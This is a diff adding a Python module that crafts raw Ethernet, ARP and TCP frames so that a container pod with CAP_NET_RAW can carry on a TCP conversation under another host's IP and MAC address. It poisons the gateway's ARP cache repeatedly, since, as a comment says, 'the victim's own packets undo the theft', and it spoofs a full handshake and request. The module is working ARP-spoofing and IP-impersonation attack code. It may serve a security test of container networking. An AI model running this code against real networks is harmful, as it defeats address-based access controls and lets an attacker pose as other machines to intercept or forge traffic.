@@ -1,0 +1,118 @@
+"""A TCP conversation held by frames of one's own making, in the name of another address.
+
+What a pod with CAP_NET_RAW can do, and containers have that by default: nothing of the kernel's own
+TCP is used, so that neither the address nor the MAC address need to be the pod's.
+"""
+
+from __future__ import annotations
+
+import random
+import socket
+import struct
+import time
+from collections.abc import Iterator
+
+_ETHERTYPE_ARP, _ETHERTYPE_IP = 0x0806, 0x0800
+_BROADCAST = b"\xff" * 6
+_SYN, _ACK, _PSH, _SYN_ACK = 0x02, 0x10, 0x08, 0x12
+
+
+def checksum(data: bytes) -> int:
+    """Return the internet checksum (RFC 1071)."""
+    total = sum(struct.unpack(f"!{len(data) // 2 + len(data) % 2}H", data + bytes(len(data) % 2)))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+class Wire:
+    """Frames on an interface, sent from `mac` in the name of `address`."""
+
+    def __init__(self, mac: bytes, address: str, interface: str = "eth0") -> None:
+        self.mac, self._address = mac, socket.inet_aton(address)
+        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+        self._socket.bind((interface, 0))
+
+    def request_arp(self, target: str) -> None:
+        """Ask for `target`, which tells it, by the way, that our address is at our MAC address."""
+        head = struct.pack("!HHBBH", 1, _ETHERTYPE_IP, 6, 4, 1)
+        body = self.mac + self._address + bytes(6) + socket.inet_aton(target)
+        self._send(_BROADCAST, _ETHERTYPE_ARP, head + body)
+
+    def resolve(self, target: str, deadline: float) -> bytes:
+        """Return the MAC address of `target`; raise TimeoutError at `deadline` (monotonic)."""
+        wanted = socket.inet_aton(target)
+        while time.monotonic() < deadline:
+            self.request_arp(target)
+            for kind, body in self._frames(0.2):
+                if kind == _ETHERTYPE_ARP and body[6:8] == b"\0\2" and body[14:18] == wanted:
+                    return body[8:14]
+        raise TimeoutError(f"{target} does not answer ARP")
+
+    def converse(self, to: tuple[str, int], gateway: str, request: bytes, seconds: float) -> bytes:
+        """Connect to `to` by way of `gateway`, send `request`, return the first data of the answer.
+
+        Tries again until it works, since the victim's own packets undo the theft; raises
+        TimeoutError.
+        """
+        deadline = time.monotonic() + seconds
+        via = self.resolve(gateway, deadline)
+        port = random.randrange(20000, 60000)  # noqa: S311 - no secret
+        while time.monotonic() < deadline:
+            first = random.randrange(1 << 31)  # noqa: S311 - no secret
+            self.request_arp(gateway)
+            self._send_tcp(via, to, port, (first, 0), _SYN)
+            for sequence, flags, data in self._segments(to[0], port, 0.5):
+                if flags & _SYN_ACK == _SYN_ACK:
+                    numbers = (first + 1, sequence + 1)
+                    self._send_tcp(via, to, port, numbers, _ACK)
+                    self._send_tcp(via, to, port, numbers, _ACK | _PSH, data=request)
+                elif data:
+                    return data
+            port += 1
+        raise TimeoutError("no conversation came about")
+
+    def _send_tcp(
+        self,
+        via: bytes,
+        to: tuple[str, int],
+        port: int,
+        numbers: tuple[int, int],
+        flags: int,
+        *,
+        data: bytes = b"",
+    ) -> None:
+        """Send one segment; `numbers` are its sequence and acknowledged number."""
+        destination = socket.inet_aton(to[0])
+        tcp = struct.pack("!HHIIBBHHH", port, to[1], *numbers, 5 << 4, flags, 64000, 0, 0)
+        pseudo = self._address + destination + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
+        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp) + len(data), 1, 0, 64, 6, 0)
+        ip += self._address + destination
+        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+        self._send(via, _ETHERTYPE_IP, ip + tcp + data)
+
+    def _segments(self, origin: str, port: int, seconds: float) -> Iterator[tuple[int, int, bytes]]:
+        """Yield sequence, flags and data of what `origin` sends to `port`."""
+        for kind, body in self._frames(seconds):
+            if kind != _ETHERTYPE_IP or body[9] != 6 or body[12:16] != socket.inet_aton(origin):
+                continue
+            tcp = body[(body[0] & 15) * 4 : struct.unpack("!H", body[2:4])[0]]
+            to, sequence, _, offset, flags = struct.unpack("!HIIBB", tcp[2:14])
+            if to == port:
+                yield sequence, flags, tcp[(offset >> 4) * 4 :]
+
+    def _frames(self, seconds: float) -> Iterator[tuple[int, bytes]]:
+        """Yield type and content of what arrives in that time."""
+        end = time.monotonic() + seconds
+        while (left := end - time.monotonic()) > 0:
+            self._socket.settimeout(left)
+            try:
+                frame, origin = self._socket.recvfrom(65535)
+            except TimeoutError:
+                return
+            if origin[2] != socket.PACKET_OUTGOING:
+                yield struct.unpack("!H", frame[12:14])[0], frame[14:]
+
+    def _send(self, to: bytes, kind: int, content: bytes) -> None:
+        self._socket.send(to + self.mac + struct.pack("!H", kind) + content)
